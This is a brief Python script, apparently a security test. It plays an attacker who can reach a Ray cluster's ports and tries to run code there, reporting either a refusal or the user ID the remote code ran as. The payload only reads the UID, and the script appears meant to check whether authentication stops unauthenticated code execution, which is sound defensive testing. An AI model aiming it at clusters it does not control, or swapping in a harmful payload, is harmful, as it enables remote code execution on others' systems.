"""Someone who may reach a Ray's ports tries to run code in it: `attacker.py ADDRESS`. Prints how
far it came."""

import logging
import os
import sys
from typing import Any

import ray
from ray.exceptions import AuthenticationError


def attack(address: str) -> str:
    """Run a function in the Ray at `address`."""
    try:
        ray.init(address=address, log_to_driver=False, logging_level=logging.ERROR)
    except (ConnectionError, AuthenticationError) as error:
        return f"refused: {str(error).splitlines()[0]}"
    whoami: Any = ray.remote(lambda: os.getuid())
    return f"ran code as user {ray.get(whoami.remote(), timeout=60)}"


if __name__ == "__main__":
    os.environ["HOME"] = "/nonexistent"  # no token lies there
    print(attack(sys.argv[1]), flush=True)
    os._exit(0)
